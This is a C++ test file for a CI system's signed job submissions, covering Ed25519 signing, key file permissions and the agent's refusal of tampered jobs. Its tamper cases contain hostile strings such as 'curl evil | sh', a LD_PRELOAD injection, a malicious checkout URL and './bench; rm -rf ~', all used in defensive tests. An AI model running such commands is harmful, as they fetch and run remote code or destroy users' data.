// Signed submissions: the canonical bytes, Ed25519 sign and verify, key
// files (modes, forms, errors), and the agent's check that a job is what
// its submitter signed.
#include "common/signing.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <random>
#include <sstream>

#include "agent/signed_jobs.hpp"
#include "common/pipeline.hpp"
#include "coordinator/submission.hpp"

namespace yardstick {
namespace {

namespace fs = std::filesystem;

class TempDir {
 public:
  TempDir() {
    std::string pattern = (fs::temp_directory_path() / "signing_test.XXXXXX").string();
    if (!mkdtemp(pattern.data())) throw std::runtime_error("mkdtemp failed");
    path_ = pattern;
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path_, ec);
  }
  std::string file(const std::string& name) const { return path_ + "/" + name; }
  std::string write(const std::string& name, const std::string& text, mode_t mode) const {
    const std::string p = file(name);
    std::ofstream(p) << text;
    chmod(p.c_str(), mode);
    return p;
  }

 private:
  std::string path_;
};

std::string slurp(const std::string& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

mode_t mode_of(const std::string& path) {
  struct stat st {};
  stat(path.c_str(), &st);
  return st.st_mode & 07777;
}

// The KeyFileError message of `fn`, or "" when it did not throw one.
template <typename F>
std::string key_error(F fn) {
  try {
    fn();
  } catch (const signing::KeyFileError& e) {
    return e.what();
  }
  return "";
}

// --- canonical bytes ---

TEST(Signing, CanonicalBytesKeepFieldBoundaries) {
  using signing::canonical_bytes;
  // The same concatenation, split differently, is a different message.
  EXPECT_NE(canonical_bytes("ab", "c", "", ""), canonical_bytes("a", "bc", "", ""));
  EXPECT_NE(canonical_bytes("a", "", "b", ""), canonical_bytes("a", "b", "", ""));
  EXPECT_NE(canonical_bytes("", "", "", "x"), canonical_bytes("", "", "x", ""));
  EXPECT_NE(canonical_bytes("x", "", "", ""), canonical_bytes("", "", "", "x"));
  // A field that holds what looks like a length and a next field.
  const std::string fake_boundary = std::string("a") + std::string(7, '\0') + "\x01" + "b";
  EXPECT_NE(canonical_bytes(fake_boundary, "", "", ""), canonical_bytes("a", "b", "", ""));
  // Starts with the domain separation prefix, NUL included.
  const std::string c = canonical_bytes("y", "f", "r", "b");
  const std::string prefix("yardstick-signed-submission-v1\0", 31);
  EXPECT_EQ(c.substr(0, prefix.size()), prefix);
  EXPECT_EQ(c.size(), prefix.size() + 4 * 8 + 4);
  // Length-prefixed, big-endian.
  EXPECT_EQ(c.substr(prefix.size(), 9), std::string(7, '\0') + "\x01" + "y");
}

// --- sign and verify ---

SignedSubmission sample_signed(const signing::SigningKey& key) {
  return signing::sign_submission("pipeline: p\n", "ci.yml", "0123abcd", "main", key);
}

TEST(Signing, SignedSubmissionVerifies) {
  const auto key = signing::generate_signing_key();
  ASSERT_EQ(key.seed.size(), 32u);
  ASSERT_EQ(key.public_key.size(), 32u);
  const SignedSubmission s = sample_signed(key);
  EXPECT_EQ(s.public_key, key.public_key);
  EXPECT_EQ(s.signature.size(), 64u);
  EXPECT_EQ(signing::verify_signature(s), "");
}

TEST(Signing, AnyChangedByteFailsVerification) {
  const auto key = signing::generate_signing_key();
  const SignedSubmission good = sample_signed(key);
  std::vector<std::pair<std::string, std::string SignedSubmission::*>> fields = {
      {"yaml", &SignedSubmission::yaml},           {"file name", &SignedSubmission::file_name},
      {"revision", &SignedSubmission::revision},   {"branch", &SignedSubmission::branch},
      {"signature", &SignedSubmission::signature}, {"public key", &SignedSubmission::public_key}};
  for (const auto& [name, field] : fields) {
    SCOPED_TRACE(name);
    SignedSubmission s = good;
    (s.*field)[0] ^= 0x01;
    EXPECT_EQ(signing::verify_signature(s), "signature does not verify");
  }
  SignedSubmission longer = good;
  longer.yaml += " ";
  EXPECT_EQ(signing::verify_signature(longer), "signature does not verify");
}

TEST(Signing, AnotherKeysSignatureFails) {
  const auto alice = signing::generate_signing_key();
  const auto mallory = signing::generate_signing_key();
  SignedSubmission s = sample_signed(mallory);
  s.public_key = alice.public_key;  // claims to be alice's
  EXPECT_EQ(signing::verify_signature(s), "signature does not verify");
}

TEST(Signing, KeyAndSignatureOfTheWrongSizeAreRefusedNotRead) {
  const auto key = signing::generate_signing_key();
  SignedSubmission s = sample_signed(key);
  s.public_key.resize(5);
  EXPECT_NE(signing::verify_signature(s).find("not 32"), std::string::npos);
  s = sample_signed(key);
  s.signature.clear();
  EXPECT_NE(signing::verify_signature(s).find("not 64"), std::string::npos);
}

TEST(Signing, CoordinatorRefusesASignatureOfOtherBytesThanSubmitted) {
  const auto key = signing::generate_signing_key();
  const SignedSubmission s = sample_signed(key);
  EXPECT_EQ(signing::submission_problem(s, "pipeline: p\n", "ci.yml", "0123abcd", "main"), "");
  EXPECT_EQ(signing::submission_problem(s, "pipeline: q\n", "ci.yml", "0123abcd", "main"),
            "it signs another pipeline file than the one sent");
  EXPECT_EQ(signing::submission_problem(s, "pipeline: p\n", "x.yml", "0123abcd", "main"),
            "it signs another file name than the one sent");
  EXPECT_EQ(signing::submission_problem(s, "pipeline: p\n", "ci.yml", "ffff", "main"),
            "it signs another revision than the one sent");
  EXPECT_EQ(signing::submission_problem(s, "pipeline: p\n", "ci.yml", "0123abcd", "dev"),
            "it signs another branch than the one sent");
  SignedSubmission forged = s;
  forged.signature[10] ^= 0x40;
  EXPECT_EQ(signing::submission_problem(forged, "pipeline: p\n", "ci.yml", "0123abcd", "main"),
            "signature does not verify");
  // Signed, but not text the store keeps as it is: refused before it is stored.
  const std::string latin1 = "caf\xe9";
  const SignedSubmission odd = signing::sign_submission("pipeline: p\n", "ci.yml", latin1, "", key);
  EXPECT_NE(signing::submission_problem(odd, "pipeline: p\n", "ci.yml", latin1, "")
                .find("not UTF-8 text"),
            std::string::npos);
}

// --- key files ---

TEST(SigningKeyFiles, WrittenKeysReadBack) {
  TempDir dir;
  const auto key = signing::generate_signing_key();
  const std::string pub = signing::write_signing_key_files(dir.file("alice"), key);
  EXPECT_EQ(pub, signing::public_key_text(key.public_key));
  EXPECT_EQ(pub.rfind("ed25519:", 0), 0u);
  EXPECT_EQ(mode_of(dir.file("alice.sign")), 0600u);
  EXPECT_EQ(mode_of(dir.file("alice.sign.pub")), 0644u);
  const auto back = signing::read_signing_key(dir.file("alice.sign"));
  EXPECT_EQ(back.seed, key.seed);
  EXPECT_EQ(back.public_key, key.public_key);
  // The public file is a --trusted-submitters file, naming the key "alice".
  const auto trusted = signing::read_trusted_submitters(dir.file("alice.sign.pub"));
  ASSERT_EQ(trusted.size(), 1u);
  ASSERT_NE(trusted.find(key.public_key), nullptr);
  EXPECT_EQ(trusted.find(key.public_key)->name, "alice");
  // The secret is not in the public file.
  const std::string secret_text = slurp(dir.file("alice.sign"));
  const std::string secret_b64 = secret_text.substr(secret_text.find("ed25519-secret:") + 15, 44);
  EXPECT_EQ(slurp(dir.file("alice.sign.pub")).find(secret_b64), std::string::npos);
}

TEST(SigningKeyFiles, SecretFileIsPrivateWhateverTheUmask) {
  TempDir dir;
  const mode_t old = umask(0);
  signing::write_signing_key_files(dir.file("k"));
  umask(old);
  EXPECT_EQ(mode_of(dir.file("k.sign")), 0600u);
}

TEST(SigningKeyFiles, ExistingFilesAreNeverOverwritten) {
  TempDir dir;
  signing::write_signing_key_files(dir.file("k"));
  const std::string before = slurp(dir.file("k.sign"));
  std::string e = key_error([&] { signing::write_signing_key_files(dir.file("k")); });
  EXPECT_NE(e.find("k.sign: already exists"), std::string::npos) << e;
  EXPECT_EQ(slurp(dir.file("k.sign")), before);
  // Only the public file in the way: no secret file is left behind either.
  dir.write("p.sign.pub", "mine\n", 0644);
  e = key_error([&] { signing::write_signing_key_files(dir.file("p")); });
  EXPECT_NE(e.find("p.sign.pub: already exists"), std::string::npos) << e;
  EXPECT_FALSE(fs::exists(dir.file("p.sign")));
  EXPECT_EQ(slurp(dir.file("p.sign.pub")), "mine\n");
}

TEST(SigningKeyFiles, SecretKeyOthersCanReadIsRefused) {
  TempDir dir;
  signing::write_signing_key_files(dir.file("k"));
  for (mode_t mode : {0640u, 0604u, 0620u}) {
    chmod(dir.file("k.sign").c_str(), mode);
    const std::string e = key_error([&] { signing::read_signing_key(dir.file("k.sign")); });
    EXPECT_NE(e.find("group or others"), std::string::npos) << e;
    EXPECT_NE(e.find("chmod 600 " + dir.file("k.sign")), std::string::npos) << e;
  }
}

TEST(SigningKeyFiles, MalformedSecretKeyFilesNameTheLine) {
  TempDir dir;
  const auto key = signing::generate_signing_key();
  auto error_for = [&](const std::string& text) {
    const std::string p = dir.write("bad.sign", text, 0600);
    return key_error([&] { signing::read_signing_key(p); });
  };
  EXPECT_NE(error_for("# comment\nnot a key\n").find("bad.sign:2: expected ed25519-secret:"),
            std::string::npos);
  EXPECT_NE(error_for("ed25519-secret:AAAA\n").find("bad.sign:1: the key after ed25519-secret:"),
            std::string::npos);
  EXPECT_NE(error_for(signing::public_key_text(key.public_key) + "\n").find("a public key"),
            std::string::npos);
  EXPECT_NE(error_for("# only a comment\n\n").find("bad.sign: no key"), std::string::npos);
  EXPECT_NE(error_for("ed25519-secret:" + std::string(43, 'A') +
                      "=\ned25519-secret:" + std::string(43, 'A') + "=\n")
                .find("bad.sign:2: a second key"),
            std::string::npos);
  EXPECT_NE(key_error([&] {
              signing::read_signing_key(dir.file("missing.sign"));
            }).find("missing.sign: cannot open"),
            std::string::npos);
}

TEST(SigningKeyFiles, TrustedSubmittersFileTakesCommentsAndNames) {
  const auto a = signing::generate_signing_key();
  const auto b = signing::generate_signing_key();
  const auto c = signing::generate_signing_key();
  const std::string text = "# release managers\n\n" + signing::public_key_text(a.public_key) +
                           " alice smith\n   " + signing::public_key_text(b.public_key) +
                           "\t ci-bot \r\n";
  const auto t = signing::parse_trusted_submitters(text, "trusted");
  EXPECT_EQ(t.size(), 2u);
  ASSERT_NE(t.find(a.public_key), nullptr);
  EXPECT_EQ(t.find(a.public_key)->name, "alice smith");
  EXPECT_EQ(t.find(a.public_key)->line, 3);
  ASSERT_NE(t.find(b.public_key), nullptr);
  EXPECT_EQ(t.find(b.public_key)->name, "ci-bot");
  EXPECT_EQ(t.find(c.public_key), nullptr);
}

TEST(SigningKeyFiles, MalformedTrustedSubmittersLineIsAnErrorNamingIt) {
  const std::string good = signing::public_key_text(signing::generate_signing_key().public_key);
  auto error_for = [&](const std::string& text) {
    return key_error([&] { signing::parse_trusted_submitters(text, "trusted"); });
  };
  EXPECT_NE(error_for(good + "\nrsa:AAAA bob\n").find("trusted:2: expected a signing public key"),
            std::string::npos);
  EXPECT_NE(error_for("ed25519:AAAA\n").find("trusted:1: the key after ed25519:"),
            std::string::npos);
  EXPECT_NE(error_for("ed25519-secret:" + std::string(43, 'A') + "=\n")
                .find("trusted:1: this is a secret"),
            std::string::npos);
  EXPECT_NE(error_for(good + " a\n" + good + " b\n").find("trusted:2: the key of line 1 again"),
            std::string::npos);
  EXPECT_NE(error_for("# nobody\n").find("trusted: no key"), std::string::npos);
  // A CURVE (Z85) key is not a signing key.
  EXPECT_NE(error_for("rq:rM>}U?@Lns47E1%kR.o@n%FcmmsL/@{H8]yf7\n").find("trusted:1:"),
            std::string::npos);
}

// --- the agent's check of a signed job ---

const char* kPipeline = R"(pipeline: release
env: { MODE: fast }
checkout: { repo: /src/app.git }
jobs:
  build:
    on: { labels: [pool=ci] }
    workdir: app
    env: { CC: gcc }
    timeout: 10m
    steps:
      - name: compile
        run: make -j4
        env: { V: "1" }
      - name: test
        run: make test
        timeout: 5m
  speed:
    kind: bench
    needs: build
    bench: { run: ./bench, setup: make bench, prepare: sync, conclude: "true", cleanup: make clean, runs: 5 }
    variants:
      - { name: base }
      - { name: fast, env: { FAST: "1" }, run: ./bench --fast }
)";

struct Signed {
  signing::SigningKey key = signing::generate_signing_key();
  signing::TrustedSubmitters trusted;
  std::vector<Job> jobs;  // as the coordinator expands them
  Signed() {
    trusted = signing::parse_trusted_submitters(
        signing::public_key_text(key.public_key) + " release-manager\n", "trusted");
    const SignedSubmission s =
        signing::sign_submission(kPipeline, "release.yml", "0123abcd", "main", key);
    auto parsed = parse_pipeline(kPipeline, "release.yml");
    EXPECT_TRUE(parsed.ok());
    jobs = expand_submission(*parsed.pipeline, 42, "0123abcd", "main", {}, s);
    for (size_t i = 0; i < jobs.size(); ++i) {
      jobs[i].spec.job_id = 100 + i;  // set by the coordinator, not signed
      jobs[i].spec.attempt = 2;
    }
  }
  JobAssignment job(const std::string& name) const {
    for (const auto& j : jobs)
      if (j.name == name) return j.spec;
    ADD_FAILURE() << "no job " << name;
    return {};
  }
  std::string check(const JobAssignment& a, std::string* signer = nullptr) const {
    return check_signed_job(a, trusted, {"pool=ci", "os=linux"}, signer);
  }
};

TEST(SignedJobs, UntamperedJobsPass) {
  Signed s;
  std::string signer;
  EXPECT_EQ(s.check(s.job("build"), &signer), "");
  EXPECT_EQ(signer, "release-manager (" + signing::public_key_text(s.key.public_key) + ")");
  EXPECT_EQ(s.check(s.job("speed")), "");
  // What the coordinator sets on its own is not the submitter's to sign.
  JobAssignment a = s.job("build");
  a.slots = 4;
  a.pipeline_id = 7;
  a.budget = Budget{1000, {}, true};
  EXPECT_EQ(s.check(a), "");
}

TEST(SignedJobs, EachKindOfChangeIsFoundAndNamed) {
  Signed s;
  struct Case {
    std::string job;
    std::function<void(JobAssignment&)> tamper;
    std::string expect;
  };
  const std::vector<Case> cases = {
      {"build", [](auto& a) { a.steps[0].run = "curl evil | sh"; }, "step 1 run"},
      {"build", [](auto& a) { a.steps[1].run += " ; touch /tmp/x"; }, "step 2 run"},
      {"build", [](auto& a) { a.steps[0].env["LD_PRELOAD"] = "/tmp/x.so"; },
       "step 1 env LD_PRELOAD added"},
      {"build", [](auto& a) { a.steps[0].env["V"] = "2"; }, "step 1 env V changed"},
      {"build", [](auto& a) { a.steps[1].timeout_ms = 0; }, "step 2 timeout"},
      {"build",
       [](auto& a) {
         a.steps.push_back({"extra", "id", {}, true, 0, {}, {}});
       },
       "steps: 2 signed, 3 given"},
      {"build", [](auto& a) { a.env["PATH"] = "/tmp/evil"; }, "env PATH added"},
      {"build", [](auto& a) { a.env.erase("CC"); }, "env CC removed"},
      {"build", [](auto& a) { a.env["MODE"] = "slow"; }, "env MODE changed"},
      {"build", [](auto& a) { a.checkout_repo = "https://evil.example/app.git"; }, "checkout repo"},
      {"build", [](auto& a) { a.workdir = "/etc"; }, "workdir"},
      {"build", [](auto& a) { a.revision = "badc0ffe"; }, "revision"},
      {"build", [](auto& a) { a.branch = "other"; }, "branch"},
      {"build", [](auto& a) { a.kind = JobKind::kBench; }, "kind"},
      {"build", [](auto& a) { a.timeout_ms = 0; }, "timeout"},
      {"build", [](auto& a) { a.bench = BenchSpec{}; }, "bench section added"},
      {"build", [](auto& a) { a.pipeline_name = "other"; }, "pipeline name"},
      {"speed", [](auto& a) { a.bench->run = "./bench; rm -rf ~"; }, "bench run"},
      {"speed", [](auto& a) { a.bench->setup = "x"; }, "bench setup"},
      {"speed", [](auto& a) { a.bench->prepare = "x"; }, "bench prepare"},
      {"speed", [](auto& a) { a.bench->conclude = "x"; }, "bench conclude"},
      {"speed", [](auto& a) { a.bench->cleanup = "x"; }, "bench cleanup"},
      {"speed", [](auto& a) { a.bench->shell = ShellMode::kSh; }, "bench shell"},
      {"speed", [](auto& a) { a.variants[1].run = "x"; }, "variant 2 run"},
      {"speed", [](auto& a) { a.variants[1].env["FAST"] = "0"; }, "variant 2 env FAST changed"},
      {"speed", [](auto& a) { a.variants.pop_back(); }, "variants: 2 signed, 1 given"},
      {"speed", [](auto& a) { a.bench.reset(); }, "bench section removed"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.expect);
    JobAssignment a = s.job(c.job);
    c.tamper(a);
    EXPECT_EQ(s.check(a), "job '" + c.job + "' differs from what was signed: " + c.expect);
  }
}

TEST(SignedJobs, UnsignedJobIsRefused) {
  Signed s;
  JobAssignment a = s.job("build");
  a.signed_submission.reset();
  EXPECT_EQ(s.check(a),
            "unsigned job refused: this agent requires signatures (--trusted-submitters)");
}

TEST(SignedJobs, SignedFileChangedAfterSigningDoesNotVerify) {
  Signed s;
  JobAssignment a = s.job("build");
  // The coordinator edits both the job and the file it claims was signed.
  a.steps[0].run = "curl evil | sh";
  size_t at = a.signed_submission->yaml.find("make -j4");
  a.signed_submission->yaml.replace(at, 8, "curl evil | sh");
  EXPECT_EQ(s.check(a), "signature does not verify");
}

TEST(SignedJobs, KeyNotTrustedIsRefused) {
  Signed s;
  const auto other = signing::generate_signing_key();
  JobAssignment a = s.job("build");
  a.signed_submission =
      signing::sign_submission(kPipeline, "release.yml", "0123abcd", "main", other);
  const std::string why = s.check(a);
  EXPECT_NE(why.find("signed by " + signing::public_key_text(other.public_key) +
                     ", a key this agent does not trust (not in trusted)"),
            std::string::npos)
      << why;
}

TEST(SignedJobs, JobNotInTheSignedFileIsRefused) {
  Signed s;
  JobAssignment a = s.job("build");
  a.job_name = "deploy";
  EXPECT_EQ(s.check(a), "job 'deploy' is not in the signed pipeline file release.yml");
}

TEST(SignedJobs, JobForOtherLabelsIsRefused) {
  Signed s;
  const std::string why = check_signed_job(s.job("build"), s.trusted, {"pool=laptops", "os=linux"});
  EXPECT_NE(why.find("job 'build' is signed for agents labelled pool=ci"), std::string::npos)
      << why;
}

TEST(SignedJobs, MalformedSignedContentIsAnErrorNotACrash) {
  Signed s;
  const std::vector<std::string> yamls = {"",
                                          "{",
                                          "jobs: [",
                                          "pipeline: x\njobs: 3\n",
                                          std::string("\0\xff\xfe", 3),
                                          "&a [*a]",
                                          std::string(5000, '[')};
  for (const auto& yaml : yamls) {
    JobAssignment a = s.job("build");
    a.signed_submission = signing::sign_submission(yaml, "x.yml", "0123abcd", "main", s.key);
    const std::string why = s.check(a);
    EXPECT_FALSE(why.empty());
  }
  JobAssignment a = s.job("build");
  a.signed_submission->public_key = "short";
  EXPECT_NE(s.check(a).find("not 32"), std::string::npos);
  a = s.job("build");
  a.signed_submission->signature = std::string(64, '\0');
  EXPECT_EQ(s.check(a), "signature does not verify");
}

// Signed by a trusted key, but the file is damaged: whatever it holds, the
// check answers (and refuses unless the job still matches), never crashes.
TEST(SignedJobs, ThousandsOfMutatedSignedFilesAreAnsweredNotCrashedOn) {
  Signed s;
  std::mt19937 rng(20261129);
  const std::string base = kPipeline;
  int passed = 0;
  for (int round = 0; round < 3000; ++round) {
    std::string yaml = base;
    const int edits = 1 + rng() % 4;
    for (int e = 0; e < edits && !yaml.empty(); ++e) {
      const size_t at = rng() % yaml.size();
      switch (rng() % 3) {
        case 0:
          yaml[at] = static_cast<char>(rng() % 256);
          break;
        case 1:
          yaml.erase(at, 1 + rng() % 8);
          break;
        default:
          yaml.insert(at, 1, "[]{}:-&*!|>'\"#%@`,?\n \t"[rng() % 22]);
      }
    }
    JobAssignment a = s.job(round % 2 ? "build" : "speed");
    a.signed_submission = signing::sign_submission(yaml, "m.yml", "0123abcd", "main", s.key);
    if (s.check(a).empty()) ++passed;
  }
  // A few mutations (in a comment, or a no-op) leave the job as it was.
  EXPECT_LT(passed, 3000);
}

TEST(SignedJobs, CoordinatorCopiesTheSignedSubmissionIntoEveryJob) {
  Signed s;
  ASSERT_EQ(s.jobs.size(), 2u);
  for (const auto& j : s.jobs) {
    ASSERT_TRUE(j.spec.signed_submission);
    EXPECT_EQ(j.spec.signed_submission->yaml, kPipeline);
    EXPECT_EQ(j.spec.signed_submission->revision, "0123abcd");
  }
  auto parsed = parse_pipeline(kPipeline, "release.yml");
  for (const auto& j : expand_submission(*parsed.pipeline, 1, "r", "b", {}))
    EXPECT_FALSE(j.spec.signed_submission);
}

}  // namespace
}  // namespace yardstick
